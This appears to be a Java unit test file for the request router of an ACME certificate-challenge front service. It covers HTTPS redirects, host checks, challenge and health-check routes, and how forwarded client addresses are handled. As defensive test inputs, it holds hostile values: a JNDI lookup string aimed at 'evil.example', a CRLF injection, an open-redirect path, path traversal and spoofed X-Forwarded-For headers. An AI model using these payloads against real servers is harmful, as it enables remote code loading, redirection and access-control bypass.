package org.ringcert.daemon.front;

import static org.assertj.core.api.Assertions.assertThat;
import static org.ringcert.daemon.front.FrontFixture.CLUSTER;
import static org.ringcert.daemon.front.FrontFixture.HELD;
import static org.ringcert.daemon.front.FrontFixture.service;

import java.net.InetAddress;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.ringcert.cluster.HostName;
import org.ringcert.daemon.front.FrontService.OtherHosts;
import org.ringcert.handoff.ChallengeRequest;
import org.ringcert.handoff.RemainingNodes;
import org.ringcert.view.look.LookRequest;

/** What the front does with well-formed requests. */
class RouterTest {

    private static final InetAddress SOURCE = InetAddress.ofLiteral("2001:db8::7");
    private final Router router = new Router(service(OtherHosts.NOT_FOUND));
    private final Router redirectsAllHosts = new Router(service(OtherHosts.REDIRECT));

    @ParameterizedTest
    @CsvSource({
        "GET, www.example.org, /, false, https://www.example.org/",
        "HEAD, www.example.org, /, false, https://www.example.org/",
        "POST, www.example.org, /form?x=1, true, https://www.example.org/form?x=1",
        "OPTIONS, www.example.org, /, true, https://www.example.org/",
        "PROPFIND, www.example.org, /, true, https://www.example.org/",
        "GET, www.example.org., /, false, https://www.example.org/",
        "GET, web1.example.org, /x, false, https://web1.example.org/x",
        "GET, www.example.org, //evil.example/x, false, https://www.example.org//evil.example/x",
        "GET, www.example.org, /a%20b%2Fc%3F?d%0d%0a, false, https://www.example.org/a%20b%2Fc%3F?d%0d%0a",
        "GET, www.example.org, /.well-known/acme-challenge, false, https://www.example.org/.well-known/acme-challenge",
    })
    void redirectsToHttps(String method, String host, String target, boolean keepsMethod, String location) {
        assertThat(route(router, method, Optional.of(host), target))
                .isEqualTo(new Route.Redirect(keepsMethod, location));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "evil.example",
                "example.org",
                "xwww.example.org",
                "www.example.org.evil.example",
                "www.example.org..",
                ".www.example.org",
                ".",
                "127.0.0.1",
                "[::1]"
            })
    void answers404ForOtherHosts(String host) {
        assertThat(route(router, "GET", Optional.of(host), "/")).isEqualTo(new Route.Reject(HttpError.NOT_FOUND));
    }

    @ParameterizedTest
    @ValueSource(strings = {"[::1]", "a_b.example", "-a.example", "a..example", ".", "www.example.org..", ""})
    void answers404ForInvalidHostNamesEvenIfOtherHostsAreRedirected(String host) {
        assertThat(route(redirectsAllHosts, "GET", Optional.of(host), "/"))
                .isEqualTo(new Route.Reject(HttpError.NOT_FOUND));
    }

    @Test
    void redirectsOtherHostsIfConfigured() {
        assertThat(route(redirectsAllHosts, "GET", Optional.of("other.example"), "/x"))
                .isEqualTo(new Route.Redirect(false, "https://other.example/x"));
        assertThat(route(redirectsAllHosts, "GET", Optional.empty(), "/x"))
                .isEqualTo(new Route.Reject(HttpError.NOT_FOUND));
    }

    @Test
    void recognizesAChallengeWhateverTheHost() {
        Route challenge = new Route.Challenge(new ChallengeRequest(HELD, new RemainingNodes.Unspecified(), SOURCE, ""));
        for (Optional<String> host :
                List.of(Optional.of("www.example.org"), Optional.of("evil.example"), Optional.<String>empty())) {
            assertThat(route(router, "GET", host, HELD.path())).isEqualTo(challenge);
            assertThat(route(router, "HEAD", host, HELD.path() + "?x=1&at=y")).isEqualTo(challenge);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"www.example.org", "evil.example", "192.0.2.10", "[::1]", ""})
    void recognizesHealthChecksWhateverTheHost(String written) {
        Optional<String> host = Optional.of(written).filter(name -> !name.isEmpty());
        String path = "/.well-known/ringcert/health";
        assertThat(route(router, "GET", host, path)).isEqualTo(new Route.HealthCheck());
        assertThat(route(router, "HEAD", host, path + "?x=1")).isEqualTo(new Route.HealthCheck());
        assertThat(route(router, "POST", host, path)).isEqualTo(new Route.Reject(HttpError.METHOD_NOT_ALLOWED));
        for (String other : List.of(path + "/", "/.well-known/ringcert/Health", "/x" + path)) {
            assertThat(route(router, "GET", host, other)).isNotEqualTo(new Route.HealthCheck());
        }
    }

    @Test
    void readsTheRemainingNodesFromTheQuery() {
        assertThat(route(router, "GET", Optional.empty(), HELD.path() + "?left=web2.example.org,web1.example.org"))
                .isEqualTo(new Route.Challenge(new ChallengeRequest(
                        HELD,
                        new RemainingNodes.Named(
                                List.of(CLUSTER.peers().get(1), CLUSTER.peers().get(0))),
                        SOURCE,
                        "")));
        assertThat(route(router, "GET", Optional.empty(), HELD.path() + "?left=evil.example"))
                .isEqualTo(new Route.Challenge(new ChallengeRequest(HELD, new RemainingNodes.Invalid(), SOURCE, "")));
        assertThat(route(router, "GET", Optional.empty(), HELD.path() + "?left=?"))
                .isEqualTo(new Route.Challenge(new ChallengeRequest(HELD, new RemainingNodes.Invalid(), SOURCE, "")));
    }

    @Test
    void recognizesARequestToLookWhateverTheHost() {
        String query = "?look=www.example.org&at=web1.example.org";
        Route look =
                new Route.Look(new LookRequest(HELD, CLUSTER.peers().get(0), new HostName("www.example.org"), SOURCE));
        for (Optional<String> host : List.of(Optional.of("evil.example"), Optional.<String>empty())) {
            assertThat(route(router, "GET", host, HELD.path() + query)).isEqualTo(look);
            assertThat(route(router, "HEAD", host, HELD.path() + query)).isEqualTo(look);
        }
        assertThat(route(router, "POST", Optional.empty(), HELD.path() + query))
                .isEqualTo(new Route.Reject(HttpError.METHOD_NOT_ALLOWED));
        assertThat(route(router, "GET", Optional.empty(), "/.well-known/acme-challenge/short" + query))
                .isEqualTo(new Route.Reject(HttpError.NOT_FOUND));
    }

    @Test
    void looksOnlyAtNamesOfTheConfiguration() {
        for (String query : List.of(
                "?at=web1.example.org&look=evil.example",
                "?at=evil.example&look=www.example.org",
                "?at=web1.example.org&look=web2.example.org&look=www.example.org")) {
            assertThat(route(router, "GET", Optional.empty(), HELD.path() + query))
                    .isEqualTo(new Route.Reject(HttpError.NOT_FOUND));
            assertThat(route(redirectsAllHosts, "GET", Optional.empty(), HELD.path() + query))
                    .isEqualTo(new Route.Reject(HttpError.NOT_FOUND));
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"POST", "PUT", "DELETE", "OPTIONS"})
    void refusesOtherMethodsForAChallenge(String method) {
        assertThat(route(router, method, Optional.of("www.example.org"), HELD.path()))
                .isEqualTo(new Route.Reject(HttpError.METHOD_NOT_ALLOWED));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "short",
                "x/../held-in-memory-0123456789",
                "held-in-memory-0123456789/",
                "held-in-memory-%30123456789"
            })
    void answers404ForInvalidTokens(String name) {
        assertThat(route(router, "GET", Optional.of("www.example.org"), "/.well-known/acme-challenge/" + name))
                .isEqualTo(new Route.Reject(HttpError.NOT_FOUND));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "X-Forwarded-For: 192.0.2.7 | 192.0.2.7",
                "X-Forwarded-For: 198.51.100.1, 192.0.2.7 | 192.0.2.7",
                "X-Forwarded-For: 198.51.100.1,␉192.0.2.7␉ | 192.0.2.7",
                "X-Forwarded-For: evil.example, 2001:db8::9 | 2001:db8::9",
                "x-forwarded-for: 198.51.100.1¶X-Forwarded-For: 192.0.2.7 | 192.0.2.7",
                "X-Forwarded-For: 192.0.2.7¶X-Forwarded-For: 198.51.100.1, unknown | 127.0.0.1",
                "X-Real-IP: 192.0.2.7 | 127.0.0.1",
                "Forwarded: for=192.0.2.7 | 127.0.0.1",
            })
    void believesTheLastAddressThatALocalProxyNames(String fields, String source) throws RejectedRequestException {
        String text = fields.replace("␉", "\t").replace("¶", "\r\n");

        assertThat(client(text, InetAddress.ofLiteral("127.0.0.1"))).isEqualTo(InetAddress.ofLiteral(source));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                ",",
                "192.0.2.7,",
                "unknown",
                "_hidden",
                "localhost",
                "evil.example",
                "192.0.2.7:4711",
                "[2001:db8::9]:4711",
                "192.0.2.256",
                "192.0.2.7 198.51.100.1",
                "192.0.2.0/24",
                "\"192.0.2.7\"",
                "fe80::1%no-such-interface",
                "%s%n${jndi:ldap://evil.example}",
                "192.0.2.7\u00e9",
                "::::",
            })
    void ignoresAnInvalidForwardedAddress(String value) throws RejectedRequestException {
        for (String self : List.of("127.0.0.1", "127.8.9.10", "::1")) {
            InetAddress local = InetAddress.ofLiteral(self);

            assertThat(client("X-Forwarded-For: " + value, local)).isEqualTo(local);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"192.0.2.1", "10.0.0.1", "0.0.0.0", "128.0.0.1", "2001:db8::7", "fe80::1", "::2"})
    void ignoresForwardedHeadersFromRemoteClients(String remote) throws RejectedRequestException {
        InetAddress source = InetAddress.ofLiteral(remote);

        assertThat(client("X-Forwarded-For: 192.0.2.7", source)).isEqualTo(source);
        assertThat(client("X-Forwarded-For: 127.0.0.1", source)).isEqualTo(source);
    }

    private InetAddress client(String fields, InetAddress source) throws RejectedRequestException {
        RequestHead head =
                RequestHead.parse("GET " + HELD.path() + " HTTP/1.1\r\nHost: www.example.org\r\n" + fields + "\r\n");
        return ((Route.Challenge) router.route(head, source)).request().source();
    }

    private static Route route(Router router, String method, Optional<String> host, String target) {
        return router.route(new RequestHead(method, host, target, false, false, true, Optional.empty(), ""), SOURCE);
    }
}
